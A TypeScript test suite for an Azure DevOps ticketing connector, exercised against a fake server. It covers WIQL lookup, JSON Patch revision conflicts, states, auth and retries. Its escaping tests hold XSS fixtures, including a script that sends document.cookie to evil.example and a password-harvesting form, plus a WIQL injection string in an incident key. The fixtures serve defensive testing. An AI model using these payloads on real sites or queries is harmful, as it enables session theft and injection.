/**
 * The Azure DevOps target's own behaviour against the fake organization: what goes on the wire (JSON
 * Patch, WIQL, api-versions, auth), the exact-tag check behind WIQL's CONTAINS, `test /rev` conflicts,
 * states looked up by name, the marker, HTML escaping as it arrives, and the lifecycle end to end.
 */
import { afterEach, describe, expect, it } from 'vitest';
import type { TokenCredential } from '@azure/identity';
import { ADO_ENTRA_SCOPE, ADO_WIQL_SETTLE_MS, createAzuredevopsConnector } from '../../functions/connectors/azuredevops/azuredevops.js';
import { adoGuardedPatch, adoLiveCreate, buildAzuredevopsPayload } from '../../functions/connectors/azuredevops/payload.js';
import { outboxBody } from '../../functions/connectors/request.js';
import type { DeliveryRequest } from '../../functions/connectors/types.js';
import type { ReceiverOf } from '../../functions/config/schema.js';
import type { DeliveryStep, TicketRef } from '../../functions/core/delivery.js';
import { KitError } from '../../functions/core/errors.js';
import type { Change } from '../../functions/core/model.js';
import { compileTemplates, renderStep } from '../../functions/render/engine.js';
import type { RenderedMessage } from '../../functions/render/types.js';
import { makeIncident, makeStep } from '../fixtures/incident.js';
import { hang, rateLimited, reply, serverError, startFakeServer, type FakeHandler, type FakeServer } from '../helpers/fake-server.js';
import { loadShippedTemplates } from '../render/shipped.js';
import { AGILE_TASK_STATES, createFakeAzureDevOps, renderedAdo, type FakeAdoOptions, type FakeAzureDevOps } from './fakes/azuredevops.js';

const PAT = 'ado-test-pat-52charsxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx';
const BASIC = `Basic ${Buffer.from(`:${PAT}`).toString('base64')}`;
const TOKEN = 'eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.ado-test-entra-token';
const reactivation: Change = { kind: 'status', from: 'Closed', to: 'Active', id: 'status:active#2' };
const wire = (s: FakeServer) => s.requests.map((r) => `${r.method} ${r.rawUrl ?? r.path}`);

function ticketStep(action: 'upsert' | 'resolve', overrides: Partial<DeliveryStep> = {}): DeliveryStep {
  return makeStep({ receiver: 'soc-ado', kind: 'azuredevops', stepType: 'ticket', ticketAction: action, template: 'ticket', ...overrides });
}

function credential(token = TOKEN) {
  const calls: string[][] = [];
  const cred: TokenCredential = {
    getToken: async (scopes) => {
      calls.push([scopes].flat());
      return { token, expiresOnTimestamp: Date.now() + 3_600_000 };
    },
  };
  return { cred, calls };
}

describe('Azure DevOps connector against a fake organization', () => {
  const servers: FakeServer[] = [];
  afterEach(async () => {
    await Promise.all(servers.splice(0).map((s) => s.close()));
  });

  async function setup(
    fakeOptions: Partial<FakeAdoOptions> = {},
    overrides: Partial<ReceiverOf<'azuredevops'>> = {},
    wrap?: (ado: FakeAzureDevOps) => FakeHandler,
  ) {
    const ado = createFakeAzureDevOps({ project: 'SecOps', pat: PAT, bearerToken: TOKEN, ...fakeOptions });
    const server = await startFakeServer(wrap ? wrap(ado) : ado.handler);
    servers.push(server);
    const receiver: ReceiverOf<'azuredevops'> = { kind: 'azuredevops', organizationUrl: server.url, project: 'SecOps', workItemType: 'Task', pat: 'env:ADO_PAT', doneState: 'Done', ...overrides };
    const connector = (extra: { credential?: TokenCredential; onTicketCreated?: (t: TicketRef) => Promise<void> } = {}) =>
      createAzuredevopsConnector({ receiverName: 'soc-ado', receiver, env: { ADO_PAT: PAT }, fetchTimeoutMs: 2000, ...extra });
    const request = (step: DeliveryStep, existingTicket: TicketRef | null = null, rendered: RenderedMessage = renderedAdo()): DeliveryRequest => ({
      step,
      receiverName: 'soc-ado',
      receiver,
      rendered,
      existingTicket,
    });
    const failure = (p: Promise<unknown>) => p.then(() => { throw new Error('expected the delivery to fail'); }, (e: unknown) => e as KitError);
    return { ado, server, receiver, connector, request, failure };
  }

  it('creates a work item after WIQL finds none: method, path, api-version, auth, content types and the builder\'s body', async () => {
    const { ado, server, receiver, connector, request } = await setup();
    const result = await connector().execute(request(ticketStep('upsert')));
    expect(result).toMatchObject({ action: 'created', ticket: { receiver: 'soc-ado', incidentKey: '12345', id: '1', key: null, url: `${server.url}/SecOps/_workitems/edit/1`, state: 'open' } });
    expect(wire(server)).toEqual(['POST /SecOps/_apis/wit/wiql?$top=200&api-version=7.1', 'POST /SecOps/_apis/wit/workitems/$Task?api-version=7.1']);
    const [wiql, create] = server.requests;
    expect(JSON.parse(wiql!.body)).toEqual({
      query: "SELECT [System.Id] FROM WorkItems WHERE [System.TeamProject] = @project AND [System.Tags] CONTAINS 'sentinel-12345' ORDER BY [System.Id] ASC",
    });
    expect(wiql!.headers['content-type']).toBe('application/json');
    expect(create!.headers['content-type']).toBe('application/json-patch+json');
    // the builder's create (the outbox body), then the History line carrying the creating step's marker
    const built = buildAzuredevopsPayload({ ...request(ticketStep('upsert')), operation: 'create', ticket: null, receiver });
    expect(create!.body).toBe(outboxBody(adoLiveCreate({ ...request(ticketStep('upsert')), operation: 'create', ticket: null, receiver }, '[spk:aaaaaaaaaaaaaaaa]')));
    expect(JSON.parse(create!.body)).toEqual([
      ...(JSON.parse(outboxBody(built)) as unknown[]),
      { op: 'add', path: '/fields/System.History', value: '<p>Created from Microsoft Sentinel.</p><p>[spk:aaaaaaaaaaaaaaaa]</p>' },
    ]);
    for (const r of server.requests) {
      expect(r.headers.authorization).toBe(BASIC);
      expect(r.headers.accept).toBe('application/json');
    }
    expect(ado.workItem(1)!.fields).toMatchObject({ 'System.Tags': 'sentinel; sentinel-12345', 'System.State': 'To Do', 'Microsoft.VSTS.Common.Priority': 1 });
  });

  it('WIQL CONTAINS is not proof: a work item of incident 123456 is not taken for incident 12345', async () => {
    const { ado, server, connector, request } = await setup();
    const other = makeIncident({ key: '123456' });
    await connector().execute(request(ticketStep('upsert', { incident: other, incidentKey: '123456' })));
    server.requests.length = 0;
    const mine = await connector().execute(request(ticketStep('upsert')));
    expect(mine).toMatchObject({ action: 'created', ticket: { id: '2' } });
    // WIQL named the other one; the exact tag check turned it down
    expect(wire(server)[1]).toBe('GET /SecOps/_apis/wit/workitems?ids=1&fields=System.Id,System.State,System.Tags,System.WorkItemType&errorPolicy=omit&api-version=7.1');
    const again = await connector().execute(request(ticketStep('upsert', { idempotencyKey: 'b'.repeat(64) })));
    expect(again).toMatchObject({ action: 'updated', ticket: { id: '2' } });
    expect(ado.withTag('sentinel-12345').map((w) => w.id)).toEqual([2]);
    expect(ado.withTag('sentinel-123456').map((w) => w.id)).toEqual([1]);
  });

  it('a quote in the incident key is doubled in WIQL, and the work item is found again', async () => {
    const { ado, server, connector, request } = await setup();
    const incident = makeIncident({ key: "x' OR [System.Id] > '0" });
    const step = (key: string) => ticketStep('upsert', { incident, incidentKey: incident.key, idempotencyKey: key.repeat(64) });
    await connector().execute(request(step('a')));
    expect((JSON.parse(server.requests[0]!.body) as { query: string }).query).toContain("CONTAINS 'sentinel-x''-OR-[System.Id]->-''0' ORDER BY");
    expect((await connector().execute(request(step('b')))).action).toBe('updated');
    expect(ado.workItems).toHaveLength(1);
  });

  it('create → update → resolve → reopen: each change once, guarded by test /rev, states by name', async () => {
    const { ado, server, receiver, connector, request } = await setup();
    const c = connector();
    const created = await c.execute(request(ticketStep('upsert')));
    server.requests.length = 0;

    const updated = await c.execute(request(ticketStep('upsert', { idempotencyKey: 'b'.repeat(64) }), created.ticket));
    expect(updated).toMatchObject({ action: 'updated', ticket: { state: 'open' } });
    expect(wire(server)).toEqual([
      'GET /SecOps/_apis/wit/workItems/1/comments?$top=200&order=desc&api-version=7.1-preview.4',
      'GET /SecOps/_apis/wit/workitems/1?fields=System.State,System.WorkItemType&api-version=7.1',
      'PATCH /SecOps/_apis/wit/workitems/1?api-version=7.1',
    ]);
    const patch = server.requests[2]!;
    expect(patch.headers['content-type']).toBe('application/json-patch+json');
    expect(JSON.parse(patch.body)).toEqual([
      { op: 'test', path: '/rev', value: 1 },
      { op: 'add', path: '/fields/System.History', value: '<p>Owner changed to Defender Experts; status Active.</p><p>[spk:bbbbbbbbbbbbbbbb]</p>' },
    ]);
    expect(patch.body).toBe(outboxBody(adoGuardedPatch({ ...request(ticketStep('upsert', { idempotencyKey: 'b'.repeat(64) })), receiver, operation: 'update', ticket: created.ticket }, { rev: 1, marker: '[spk:bbbbbbbbbbbbbbbb]' })));
    server.requests.length = 0;

    const resolved = await c.execute(request(ticketStep('resolve', { idempotencyKey: 'c'.repeat(64) }), updated.ticket));
    expect(resolved).toMatchObject({ action: 'resolved', ticket: { state: 'resolved' } });
    expect(wire(server)).toEqual([
      'GET /SecOps/_apis/wit/workitems/1?fields=System.State,System.WorkItemType&api-version=7.1',
      'GET /SecOps/_apis/wit/workitemtypes/Task/states?api-version=7.1',
      'PATCH /SecOps/_apis/wit/workitems/1?api-version=7.1',
    ]);
    expect((JSON.parse(server.requests[2]!.body) as unknown[]).slice(0, 2)).toEqual([
      { op: 'test', path: '/rev', value: 2 },
      { op: 'add', path: '/fields/System.State', value: 'Done' },
    ]);
    expect(ado.workItem(1)!.fields['System.State']).toBe('Done');

    // the incident is reactivated: the work item goes back to the type's first InProgress state
    const reopened = await c.execute(request(ticketStep('upsert', { idempotencyKey: 'd'.repeat(64), changes: [reactivation] }), resolved.ticket));
    expect(reopened).toMatchObject({ action: 'updated', ticket: { state: 'open' } });
    expect(ado.workItem(1)!.fields['System.State']).toBe('Doing');
    // the same reactivation again (its answer lost, the store still says resolved): nothing more happens
    await c.execute(request(ticketStep('upsert', { idempotencyKey: 'd'.repeat(64), changes: [reactivation] }), resolved.ticket));
    // the first comment is the create's own History line, carrying the creating step's marker
    expect(ado.workItem(1)!.comments.map((x) => x.text.slice(-29))).toEqual(['<p>[spk:aaaaaaaaaaaaaaaa]</p>', '<p>[spk:bbbbbbbbbbbbbbbb]</p>', '<p>[spk:cccccccccccccccc]</p>', '<p>[spk:dddddddddddddddd]</p>']);
    expect(ado.workItem(1)!.rev).toBe(4);
  });

  it('looks the done state up by name in the type\'s states and reopens to a configured state', async () => {
    const { ado, server, connector, request } = await setup({ types: { Task: AGILE_TASK_STATES } }, { doneState: 'closed', reopenState: 'new' });
    const resolved = await connector().execute(request(ticketStep('resolve')));
    expect(ado.workItem(1)!.fields['System.State']).toBe('Closed');
    // find says resolved: the states' categories, not the name, tell
    server.requests.length = 0;
    const found = await connector().execute(request(ticketStep('upsert', { idempotencyKey: 'b'.repeat(64), changes: [reactivation] })));
    expect(found.ticket?.id).toBe(resolved.ticket?.id);
    expect(ado.workItem(1)!.fields['System.State']).toBe('New');
    expect(wire(server).filter((w) => w.includes('/states'))).toEqual(['GET /SecOps/_apis/wit/workitemtypes/Task/states?api-version=7.1']);
  });

  it('a done state the type does not have is terminal, names the field and lists the states; nothing changes', async () => {
    const { ado, connector, request, failure } = await setup({}, { doneState: 'Closed' });
    const created = await connector().execute(request(ticketStep('upsert')));
    const err = await failure(connector().execute(request(ticketStep('resolve'), created.ticket)));
    expect(err).toMatchObject({ kind: 'terminal', where: { field: 'receivers.soc-ado.doneState' } });
    expect(err.message).toContain('"To Do" (Proposed), "Doing" (InProgress), "Done" (Completed)');
    expect(ado.workItem(1)!).toMatchObject({ rev: 1, fields: { 'System.State': 'To Do' } });
  });

  describe('test /rev: a work item changed between our read and our write', () => {
    for (const status of [412, 409] as const) {
      it(`HTTP ${status} is a conflict; the retry re-reads and adds the comment once, keeping the other change`, async () => {
        let raced = false;
        const { ado, connector, request, failure } = await setup({}, {}, (fake) => (req, params) => {
          if (req.method === 'PATCH' && !raced) {
            raced = true;
            // someone in the web UI saves the work item first
            fake.edit(1, { 'System.Title': 'Renamed by the SOC lead', 'System.History': '<p>taking this</p>' });
            if (status === 409) return reply(409, { message: 'TF26071: This work item has been changed by someone else since you opened it.', typeKey: 'WorkItemUpdateConflictException' });
          }
          return fake.handler(req, params);
        });
        const created = await connector().execute(request(ticketStep('upsert')));
        const step = ticketStep('upsert', { idempotencyKey: 'b'.repeat(64) });
        const err = await failure(connector().execute(request(step, created.ticket)));
        expect(err).toBeInstanceOf(KitError);
        expect(err).toMatchObject({ kind: 'conflict', statusCode: status });
        expect(err.retryable).toBe(true);
        // the create's own History line, then the person's comment
        expect(ado.workItem(1)!.comments).toHaveLength(2);
        await connector().execute(request(step, created.ticket));
        await connector().execute(request(step, created.ticket));
        expect(ado.workItem(1)!.comments.map((c) => c.text)).toEqual(['<p>Created from Microsoft Sentinel.</p><p>[spk:aaaaaaaaaaaaaaaa]</p>', '<p>taking this</p>', '<p>Owner changed to Defender Experts; status Active.</p><p>[spk:bbbbbbbbbbbbbbbb]</p>']);
        expect(ado.workItem(1)!.fields['System.Title']).toBe('Renamed by the SOC lead');
      });
    }

    it('a close racing a person moving the work item still closes it, with one comment', async () => {
      let raced = false;
      const { ado, connector, request, failure } = await setup({}, {}, (fake) => (req, params) => {
        if (req.method === 'PATCH' && !raced) {
          raced = true;
          fake.edit(1, { 'System.State': 'Doing' });
        }
        return fake.handler(req, params);
      });
      const created = await connector().execute(request(ticketStep('upsert')));
      const resolve = ticketStep('resolve', { idempotencyKey: 'c'.repeat(64) });
      expect((await failure(connector().execute(request(resolve, created.ticket)))).kind).toBe('conflict');
      expect(ado.workItem(1)!.fields['System.State']).toBe('Doing');
      expect((await connector().execute(request(resolve, created.ticket))).action).toBe('resolved');
      // the create's History line, then the close's one comment
      expect(ado.workItem(1)!).toMatchObject({ fields: { 'System.State': 'Done' }, comments: [{ text: '<p>Created from Microsoft Sentinel.</p><p>[spk:aaaaaaaaaaaaaaaa]</p>' }, { text: expect.stringContaining('[spk:cccccccccccccccc]') }] });
    });
  });

  describe('the comment marker', () => {
    it('counts only at the end of a comment: incident text quoting a marker does not suppress the change', async () => {
      const { ado, connector, request } = await setup();
      const created = await connector().execute(request(ticketStep('upsert')));
      // an earlier comment carried incident text that quotes the next step's marker
      ado.edit(1, { 'System.History': '<p>Comment: see [spk:bbbbbbbbbbbbbbbb] for details</p><p>[spk:eeeeeeeeeeeeeeee]</p>' });
      await connector().execute(request(ticketStep('upsert', { idempotencyKey: 'b'.repeat(64) }), created.ticket));
      expect(ado.workItem(1)!.comments).toHaveLength(3);
      expect(ado.workItem(1)!.comments[2]!.text).toMatch(/<p>\[spk:bbbbbbbbbbbbbbbb\]<\/p>$/);
    });

    it('is found behind more than a page of newer comments (continuationToken)', async () => {
      const { ado, server, connector, request } = await setup();
      const created = await connector().execute(request(ticketStep('upsert')));
      const step = ticketStep('upsert', { idempotencyKey: 'b'.repeat(64) });
      await connector().execute(request(step, created.ticket));
      for (let i = 0; i < 250; i++) ado.edit(1, { 'System.History': `<p>note ${i}</p>` });
      server.requests.length = 0;
      await connector().execute(request(step, created.ticket));
      expect(ado.workItem(1)!.comments).toHaveLength(252);
      expect(server.requests.map((r) => r.method)).toEqual(['GET', 'GET']);
      expect(server.requests[1]!.query.get('continuationToken')).toBeTruthy();
    });
  });

  it('HTML from incident text arrives escaped in the description and the discussion (rendered by the shipped templates)', async () => {
    const { ado, server, connector, request } = await setup();
    const set = compileTemplates(loadShippedTemplates());
    const incident = makeIncident({
      title: '<img src=x onerror=alert(1)> Phish & "pay"',
      description: '<script>fetch("https://evil.example/"+document.cookie)</script><a href="javascript:alert(2)">click</a>',
      classificationComment: '<form action="https://evil.example"><input name=pw></form>',
      status: 'Closed',
      classification: 'TruePositive',
    });
    const step = (action: 'upsert' | 'resolve', key: string) =>
      ticketStep(action, { incident, idempotencyKey: key.repeat(64), changes: [{ kind: 'status', from: 'Active', to: 'Closed', id: 'status:closed#1' }] });
    const rendered = (s: DeliveryStep) => renderStep(set, s, { receiverName: 'soc-ado', ticket: null });
    const created = await connector().execute(request(step('upsert', 'a'), null, rendered(step('upsert', 'a'))));
    await connector().execute(request(step('resolve', 'b'), created.ticket, rendered(step('resolve', 'b'))));
    const item = ado.workItem(1)!;
    const sent = [String(item.fields['System.Title']), String(item.fields['System.Description']), ...item.comments.map((c) => c.text)];
    const html = sent.slice(1).join('\n');
    expect(html).toContain('&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;');
    expect(html).toContain('&lt;script&gt;');
    expect(html).toContain('&lt;form');
    for (const bad of [/<img/i, /<script/i, /<form/i, /<input/i, /href="javascript:/i]) expect(html).not.toMatch(bad);
    // the title is a plain-text field: ADO shows it as text, so it is one line and cut to 255, not escaped
    expect(sent[0]).not.toMatch(/[\r\n]/);
    expect(sent[0]!.length).toBeLessThanOrEqual(255);
    // the wire carried what the work item holds
    expect(server.requests.find((r) => r.method === 'PATCH')!.body).toContain('&lt;form');
  });

  describe('auth', () => {
    it('a managed identity token for the Azure DevOps resource, asked for once and reused across deliveries', async () => {
      const { server, connector, request } = await setup({}, { pat: undefined });
      const { cred, calls } = credential();
      const c = connector({ credential: cred });
      const created = await c.execute(request(ticketStep('upsert')));
      await c.execute(request(ticketStep('upsert', { idempotencyKey: 'b'.repeat(64) }), created.ticket));
      expect(calls).toEqual([[ADO_ENTRA_SCOPE]]);
      expect(ADO_ENTRA_SCOPE).toBe('499b84ac-1321-427f-aa17-267ca6975798/.default');
      for (const r of server.requests) expect(r.headers.authorization).toBe(`Bearer ${TOKEN}`);
    });

    it('with a PAT the identity is never asked', async () => {
      const { connector, request } = await setup();
      const { cred, calls } = credential();
      await connector({ credential: cred }).execute(request(ticketStep('upsert')));
      expect(calls).toEqual([]);
    });

    it('an identity that cannot get a token is auth, before any request', async () => {
      const { server, connector, request, failure } = await setup({}, { pat: undefined });
      const unavailable: TokenCredential = {
        getToken: async () => {
          throw Object.assign(new Error('ManagedIdentityCredential: no managed identity endpoint found'), { name: 'CredentialUnavailableError' });
        },
      };
      const err = await failure(connector({ credential: unavailable }).execute(request(ticketStep('upsert'))));
      expect(err.kind).toBe('auth');
      expect(server.requests).toHaveLength(0);
    });

    it('203 with the sign-in page is auth, not "no work item": nothing is created', async () => {
      const { ado, server, connector, request, failure } = await setup({ pat: 'another-pat', refuseWith: 203 });
      const err = await failure(connector().execute(request(ticketStep('upsert'))));
      expect(err).toMatchObject({ kind: 'auth', statusCode: 203 });
      expect(err.message).not.toContain(PAT);
      expect(server.requests).toHaveLength(1);
      expect(ado.workItems).toHaveLength(0);
    });

    it('a missing PAT setting is a config error before any request', async () => {
      const { server, receiver, request } = await setup();
      const c = createAzuredevopsConnector({ receiverName: 'soc-ado', receiver, env: {} });
      await expect(c.execute(request(ticketStep('upsert')))).rejects.toMatchObject({ kind: 'config', message: expect.stringContaining('env:ADO_PAT') });
      expect(server.requests).toHaveLength(0);
    });
  });

  describe('classified failures', () => {
    it('429 with Retry-After and the X-RateLimit headers → rate-limited with that delay, nothing created', async () => {
      const { ado, connector, request, failure } = await setup({}, {}, (fake) => (req, params) =>
        req.path.endsWith('/wiql')
          ? rateLimited(12, { 'x-ratelimit-resource': 'Core', 'x-ratelimit-delay': '1.5', 'x-ratelimit-limit': '200', 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': String(Math.ceil(Date.now() / 1000) + 300) })
          : fake.handler(req, params),
      );
      expect(await failure(connector().execute(request(ticketStep('upsert'))))).toMatchObject({ kind: 'rate-limited', statusCode: 429, retryAfterMs: 12_000 });
      expect(ado.workItems).toHaveLength(0);
    });

    it('a create answered 503 may have happened: retryable, and not before WIQL settles', async () => {
      const { connector, request, failure } = await setup({}, {}, (fake) => (req, params) => (req.method === 'POST' && req.path.includes('$Task') ? serverError(503) : fake.handler(req, params)));
      expect(await failure(connector().execute(request(ticketStep('upsert'))))).toMatchObject({ kind: 'retryable', statusCode: 503, retryAfterMs: ADO_WIQL_SETTLE_MS });
    });

    it('a hung connection is retryable within the timeout', async () => {
      const { connector, request, failure } = await setup({}, {}, (fake) => (req, params) => (req.path.endsWith('/wiql') ? hang() : fake.handler(req, params)));
      expect((await failure(connector().execute(request(ticketStep('upsert'))))).kind).toBe('retryable');
    });

    it('a patch Azure DevOps refuses is terminal, in its own words', async () => {
      const { connector, request, failure } = await setup({}, {}, (fake) => (req, params) =>
        req.method === 'POST' && req.path.includes('$Task')
          ? reply(400, { $id: '1', message: 'TF401320: Rule Error for field Area Path. Error code: Required, InvalidEmpty.', typeKey: 'RuleValidationException' })
          : fake.handler(req, params),
      );
      expect(await failure(connector().execute(request(ticketStep('upsert'))))).toMatchObject({ kind: 'terminal', statusCode: 400, message: expect.stringContaining('TF401320') });
    });
  });

  it('a create whose answer was lost after the work item was made: the retry finds it and repeats nothing', async () => {
    let lost = false;
    const { ado, server, receiver, connector, request, failure } = await setup({}, {}, (fake) => async (req, params) => {
      if (!lost && req.method === 'POST' && req.path.includes('$Task')) {
        lost = true;
        await fake.handler(req, params);
        return serverError(503);
      }
      return fake.handler(req, params);
    });
    const step = ticketStep('upsert');
    expect(await failure(connector().execute(request(step)))).toMatchObject({ kind: 'retryable', statusCode: 503 });
    expect(ado.workItems).toHaveLength(1);
    // the create carried the step's marker as its History: Azure DevOps made it the first comment
    const create = server.requests.find((r) => r.method === 'POST' && r.path.includes('$Task'))!;
    expect((JSON.parse(create.body) as unknown[]).at(-1)).toEqual({ op: 'add', path: '/fields/System.History', value: '<p>Created from Microsoft Sentinel.</p><p>[spk:aaaaaaaaaaaaaaaa]</p>' });
    expect(create.body).toBe(outboxBody(adoLiveCreate({ ...request(step), operation: 'create', ticket: null, receiver }, '[spk:aaaaaaaaaaaaaaaa]')));
    server.requests.length = 0;

    // the retry (a fresh process: nothing remembered) finds it by its tag and sees its own marker
    const retried = await connector().execute(request(step));
    expect(retried).toMatchObject({ action: 'updated', ticket: { id: '1' } });
    expect(server.requests.some((r) => r.method !== 'GET' && !r.path.endsWith('/wiql'))).toBe(false);
    expect(ado.workItems).toHaveLength(1);
    const item = ado.workItem(1)!;
    expect(item.comments).toHaveLength(1);
    expect(item.comments[0]!.text).toBe('<p>Created from Microsoft Sentinel.</p><p>[spk:aaaaaaaaaaaaaaaa]</p>');
    expect(item.comments.some((c) => c.text.includes('Owner changed to Defender Experts'))).toBe(false);
    expect(item.rev).toBe(1);
  });

  it('the same process finds the work item it created by id while WIQL lags', async () => {
    const { ado, server, connector, request } = await setup({ wiqlLagMs: 3_600_000 });
    const c = connector();
    await c.execute(request(ticketStep('upsert')));
    const again = await c.execute(request(ticketStep('upsert', { idempotencyKey: 'b'.repeat(64) })));
    expect(again).toMatchObject({ action: 'updated', ticket: { id: '1' } });
    expect(ado.workItems).toHaveLength(1);
    expect(server.requests.find((r) => r.method === 'GET' && r.path.endsWith('/workitems'))?.query.get('ids')).toBe('1');
  });

  it('the fake refuses what Azure DevOps refuses: JSON instead of JSON Patch, comments without -preview, an unknown project', async () => {
    const { server } = await setup();
    const call = (method: string, path: string, body?: string, contentType = 'application/json') =>
      fetch(`${server.url}${path}`, { method, headers: { authorization: BASIC, 'content-type': contentType }, ...(body ? { body } : {}) }).then(async (r) => ({ status: r.status, text: await r.text() }));
    expect((await call('POST', '/SecOps/_apis/wit/workitems/$Task?api-version=7.1', '[]')).status).toBe(415);
    expect((await call('GET', '/SecOps/_apis/wit/workItems/1/comments?api-version=7.1')).text).toContain('-preview flag');
    expect((await call('GET', '/Other/_apis/wit/workitems/1?api-version=7.1')).text).toContain('TF200016');
  });
});
